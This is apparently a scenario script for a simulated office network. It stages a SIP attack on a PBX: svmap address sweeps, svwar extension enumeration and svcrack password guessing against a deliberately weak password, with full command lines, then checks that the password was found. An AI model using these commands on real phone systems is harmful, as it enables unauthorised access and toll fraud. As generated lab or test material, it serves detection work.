# One host scans the network, asks a telephone system of another make (sip.js) for extensions by OPTIONS and guesses a password.
draw_place
use_pbx
WEAK=${BLOCK}0$(drawn weak 1 2)
WEAK_PASSWORD=$(one_of password winter0 phone2025 monday123)
open_office
add_handsets 7 2.2
one=$(stranger one)
add_attacker one "$one"
for n in $(seq "$(drawn addresses 18 36)" -1 1); do echo "$NET.$n"; done >"$scratch/addresses"
words_with "$WEAK_PASSWORD" "$(drawn place 5 20)" >"$scratch/words"
begin
ordinary_day 54
at 8 attack A1 scan one 5071 "svmap asks the addresses of the network by OPTIONS, backwards." \
    "$(version_of svmap)" svmap -b "$one" -x "$one" -P 5071 -t "0.$(drawn sweep 1 2)" -I "$scratch/addresses"
at 20 attack A2 scan one 5072 "svwar asks for extensions by OPTIONS." \
    "$(version_of svwar)" svwar -b "$one" -x "$one" -P 5072 -t 0.2 -m OPTIONS -e "$((BLOCK * 100 + 10))-$((BLOCK * 100 + 10 + $(drawn asked 25 40)))" "$PROXY"
at 36 attack A3 password_cracking one 5073 "svcrack tries words as passwords of $WEAK until one is right." \
    "$(version_of svcrack)" svcrack -b "$one" -x "$one" -P 5073 -t "0.$(drawn gap 1 4)" -u "$WEAK" -d "$scratch/words" "$PROXY"
finish A1 A2 A3
expect_said A3 "$WEAK_PASSWORD"
